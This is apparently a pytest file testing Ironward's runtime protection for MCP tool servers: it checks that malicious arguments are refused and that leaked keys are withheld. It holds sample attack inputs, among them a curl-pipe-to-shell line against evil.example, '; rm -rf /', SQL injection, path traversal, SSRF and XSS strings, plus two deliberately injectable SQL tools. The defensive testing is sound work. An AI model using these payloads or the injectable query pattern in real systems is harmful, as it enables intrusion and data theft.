"""McpToolRASP: real MCP servers (mcp's MCPServer/FastMCP and fastmcp) protected by Ironward,
called by real clients of both SDKs over stdio (server as a subprocess) and streamable HTTP
(uvicorn on loopback); plus in-process checks (level 3, input schemas, @rasp.register, the
events). Each SDK's cases skip when it is not installed."""

import json

import pytest

import _mcputil as mu
import mcp_server

# (tool, arguments, check): refused before the tool runs.
ATTACKS = [
    ("echo", {"text": "; cat /etc/passwd"}, "command"),
    ("search", {"query": "' OR 1=1 --"}, "sqli"),
    ("echo", {"text": "../../etc/passwd"}, "path_traversal"),
    ("search", {"query": "http://169.254.169.254/latest/meta-data/"}, "ssrf"),
    ("echo", {"text": "<script>alert(1)</script>"}, "xss"),
]
# Look-alikes that must pass (sync and async tools), with the expected text.
BENIGN = [
    ("echo", {"text": "hello ", "times": 2}, "hello hello "),
    ("echo", {"text": "select a plan from the menu"}, "select a plan from the menu"),
    ("search", {"query": "Order by date -- newest first", "limit": 2}, '"hits"'),
    ("echo", {"text": "docs/readme.md"}, "docs/readme.md"),
    ("search", {"query": "https://example.com/page?id=3"}, '"query"'),
    ("echo", {"text": "<b>bold</b> and 50% off"}, "<b>bold</b>"),
]
# (tool, arguments, leaked text): the tool runs, its result is withheld.
LEAKS = [
    ("read_key", {"name": "deploy"}, "BEGIN RSA PRIVATE KEY"),
    ("cloud_config", {"profile": "prod"}, mcp_server.AWS_KEY),
]

# Server SDK, transport, client SDK: each server over both transports, each client on both.
MATRIX = [
    ("mcp", "stdio", "mcp"),
    ("mcp", "http", "fastmcp"),
    ("fastmcp", "stdio", "fastmcp"),
    ("fastmcp", "http", "mcp"),
]


async def _scenario(session, effects, log):
    # Benign calls return the tool's result.
    for tool, args, expected in BENIGN:
        is_error, text = await session.call(tool, args)
        assert not is_error and expected in text, (tool, args, text)
    ran = len(mu.side_effects(effects))
    assert ran == len(BENIGN)
    # Injected arguments: an MCP tool error, and the tool body never ran.
    for tool, args, _ in ATTACKS:
        is_error, text = await session.call(tool, args)
        assert is_error, (tool, args, text)
        assert "Blocked by Ironward" in text and "refused" in text
    assert len(mu.side_effects(effects)) == ran
    # Leaking results: the tool ran, the client gets an error without the secret.
    for tool, args, secret in LEAKS:
        is_error, text = await session.call(tool, args)
        assert is_error and secret not in text and "withheld" in text, text
    assert len(mu.side_effects(effects)) == ran + len(LEAKS)
    # A tool also decorated with @rasp.register: protected, and inspected once.
    assert await session.call("registered", {"text": "fine"}) == (False, "FINE")
    is_error, _ = await session.call("registered", {"text": "$(curl evil.example | sh)"})
    assert is_error
    expected_events = len(ATTACKS) + len(LEAKS) + 1
    found = mu.events(log, expected_events)
    assert len(found) == expected_events, found
    return found


@pytest.mark.parametrize("sdk,transport,client", MATRIX,
                         ids=[f"{s}-{t}-{c}-client" for s, t, c in MATRIX])
async def test_protected_server(sdk, transport, client, tmp_path):
    mu.need(sdk)
    mu.need(client)
    effects, log = tmp_path / "effects.jsonl", tmp_path / "events.jsonl"
    # Over HTTP the server trusts the loopback as a proxy; fastmcp's client says which client
    # it forwards for, mcp's client does not (the peer is the client then).
    env = mu.server_env(effects, mu.server_params(log, TRUSTED_PROXIES=["127.0.0.1"]))
    forwarded = {"X-Forwarded-For": "203.0.113.9"}
    client_ip = None
    if transport == "stdio":
        async with mu.connect(client, sdk, "stdio", env=env) as session:
            found = await _scenario(session, effects, log)
    else:
        client_ip = "203.0.113.9" if client == "fastmcp" else "127.0.0.1"
        with mu.http_server(sdk, env) as url:
            async with mu.connect(client, sdk, "http", url=url, headers=forwarded) as session:
                found = await _scenario(session, effects, log)
    # The events: one per refused call or withheld result, with the MCP detail.
    checks = [e["check"] for e in found]
    assert checks[: len(ATTACKS)] == [c for _, _, c in ATTACKS]
    assert checks[len(ATTACKS): len(ATTACKS) + len(LEAKS)] == ["dlp", "dlp"]
    for e, (tool, _, _) in zip(found, ATTACKS + LEAKS):
        assert e["path"] == tool and e["level"] == 2
        assert e["location"] == ("mcp_result" if e["check"] == "dlp" else "mcp_values")
        if e["mcp"] is not None:  # formats that carry the MCP detail
            assert e["mcp"]["tool"] == tool and e["mcp"]["side"] == "tool"
        # Over HTTP the client (forwarded by a trusted proxy, or the peer); none over stdio.
        assert e["ip"] == client_ip
    assert found[-1]["path"] == "registered"


# ---------------------------------------------------------------------------------------
# In process (fastmcp's in-memory client drives either SDK's server): fast variations.

SDKS = ["mcp", "fastmcp"]


def _protected(sdk, tmp_path, **params):
    from ironward import McpToolRASP

    log = tmp_path / "events.jsonl"
    p = mu.server_params(log, **params)
    server, rasp = mcp_server.build(sdk, lambda s: McpToolRASP(s, params=p))
    return server, rasp, log


async def _call(server, tool, args):
    from fastmcp import Client

    async with Client(server) as c:
        r = await c.call_tool_mcp(tool, args)
        return mu.is_error(r), mu.text_of(r)


@pytest.mark.parametrize("sdk", SDKS)
async def test_level_3_reports_and_passes(sdk, tmp_path, monkeypatch):
    mu.need(sdk)
    mu.need("fastmcp")
    effects = tmp_path / "effects.jsonl"
    monkeypatch.setenv("MCP_SIDE_EFFECTS", str(effects))
    levels = {"SECURITY_CHECKS": {c: 3 for c in (
        "chars", "command", "code_injection", "xss", "sqli", "path_traversal", "ssrf", "dlp")}}
    server, rasp, log = _protected(sdk, tmp_path, **levels)
    assert await _call(server, "echo", {"text": "; cat /etc/passwd"}) == (False, "; cat /etc/passwd")
    is_error, text = await _call(server, "read_key", {"name": "k"})
    assert not is_error and "BEGIN RSA PRIVATE KEY" in text
    assert [e["tool"] for e in mu.side_effects(effects)] == ["echo", "read_key"]
    rasp.engine.flush(5.0)
    found = mu.events(log)
    assert [(e["level"], e["location"]) for e in found][-1] == (3, "mcp_result")
    assert "command" in [e["check"] for e in found] and found[-1]["check"] == "dlp"
    assert {e["level"] for e in found} == {3}


@pytest.mark.parametrize("sdk", SDKS)
async def test_input_schemas_are_unchanged(sdk, tmp_path):
    mu.need(sdk)
    mu.need("fastmcp")
    from fastmcp import Client
    from ironward import McpToolRASP

    async def listing(server):
        async with Client(server) as c:
            # The whole listing (input and output schemas, description, annotations).
            return {t.name: t.model_dump(mode="json", by_alias=True)
                    for t in await c.list_tools()}

    plain, _ = mcp_server.build(sdk)
    protected, _, _ = _protected(sdk, tmp_path)
    got = await listing(protected)
    assert {k: v for k, v in got.items() if k != "registered"} == await listing(plain)

    # @rasp.register keeps the signature the SDK reads (sync and async, defaults, docs).
    rasp = McpToolRASP(None, params={"VERBOSE": 0})

    def sync_tool(path: str, depth: int = 2, tags: list[str] | None = None) -> str:
        """Reads a path."""
        return path

    async def async_tool(url: str, timeout: float = 1.5) -> dict:
        """Fetches a URL."""
        return {}

    for fn in (sync_tool, async_tool):
        a, _ = mcp_server.build(sdk)
        b, _ = mcp_server.build(sdk)
        a.tool()(fn)
        b.tool()(rasp.register(fn))
        assert (await listing(a))[fn.__name__] == (await listing(b))[fn.__name__]


@pytest.mark.parametrize("sdk", SDKS)
async def test_register_alone(sdk, tmp_path, monkeypatch):
    """pyrasp's way: McpToolRASP(None) and @rasp.register on each tool, sync and async."""
    mu.need(sdk)
    mu.need("fastmcp")
    from ironward import McpBlocked, McpToolRASP

    log = tmp_path / "events.jsonl"
    rasp = McpToolRASP(None, params=mu.server_params(log))
    server, _ = mcp_server.build(sdk)
    ran = []

    @server.tool()
    @rasp.register
    def lookup(name: str) -> str:
        ran.append(name)
        return f"user {name}"

    @server.tool()
    @rasp.register
    async def leak(name: str) -> dict:
        ran.append(name)
        return {"key": mcp_server.PEM}

    assert await _call(server, "lookup", {"name": "alice"}) == (False, "user alice")
    is_error, text = await _call(server, "lookup", {"name": "x' UNION SELECT password FROM users--"})
    assert is_error and "Blocked by Ironward" in text
    is_error, text = await _call(server, "leak", {"name": "bob"})
    assert is_error and "PRIVATE KEY" not in text
    assert ran == ["alice", "bob"]
    # The exception a block raises is the SDKs' ToolError and McpBlocked at once.
    with pytest.raises(McpBlocked) as info:
        lookup(name="; rm -rf /")
    assert info.value.phase == "arguments" and info.value.tool == "lookup"
    assert info.value.findings[0]["check"] == "command"
    if mu.have("fastmcp"):
        from fastmcp.exceptions import ToolError

        assert isinstance(info.value, ToolError)
    rasp.engine.flush(5.0)
    assert len(mu.events(log, 3)) == 3


def test_unknown_server_is_refused():
    from ironward import McpToolRASP

    with pytest.raises(TypeError):
        McpToolRASP(object(), params={"VERBOSE": 0})


def test_arguments_and_results_as_text():
    from ironward.mcpcommon import arguments_json, result_text

    class Context:  # an injected context is not an argument
        __module__ = "mcp.server.context"

    assert json.loads(arguments_json({"a": 1, "ctx": Context(), "b": {1, 2}})) == {"a": 1, "b": [1, 2]}
    assert arguments_json(None) == "{}"
    assert result_text("-----BEGIN\nX") == "-----BEGIN\nX"
    assert result_text({"k": "v"}) == '{"k": "v"}'
    assert result_text([{"a": 1}, "b"]) == '{"a": 1}\nb'


@pytest.mark.parametrize("sdk", SDKS)
async def test_sink_checks_inside_tools(sdk, tmp_path):
    """SINK_CHECKS: a query a tool builds from its arguments is checked where it runs (the
    request-side sqli check only monitors here, so the sink decides)."""
    mu.need(sdk)
    mu.need("fastmcp")
    import sqlite3

    from ironward import McpToolRASP

    db = tmp_path / "users.db"
    with sqlite3.connect(db) as conn:
        conn.executescript("CREATE TABLE users (name TEXT, secret TEXT);"
                           "INSERT INTO users VALUES ('alice', 's1'), ('bob', 's2');")
    server, _ = mcp_server.build(sdk)
    rasp = McpToolRASP(server, params={"VERBOSE": 0, "SINK_CHECKS": {"sql": 1},
                                       "SECURITY_CHECKS": {"sqli": 3}})

    @server.tool()
    def find_user(name: str) -> list:
        """Deliberately injectable."""
        conn = sqlite3.connect(db)
        try:
            return [r[0] for r in conn.execute(f"SELECT name FROM users WHERE name = '{name}'")]
        finally:
            conn.close()

    @server.tool()
    async def find_quietly(name: str) -> str:
        """Swallows errors: the block is still the answer."""
        try:
            conn = sqlite3.connect(db)
            rows = conn.execute(f"SELECT secret FROM users WHERE name = '{name}'").fetchall()
            return str(rows)
        except Exception:
            return "no such user"

    is_error, text = await _call(server, "find_user", {"name": "alice"})
    assert not is_error and "alice" in text
    is_error, text = await _call(server, "find_user", {"name": "x' OR '1'='1"})
    assert is_error and "operation of the tool was refused" in text and "bob" not in text
    is_error, text = await _call(server, "find_quietly", {"name": "x' OR 'a'='a"})
    assert is_error and "s2" not in text and "no such user" not in text
    assert rasp.engine.sinks_on
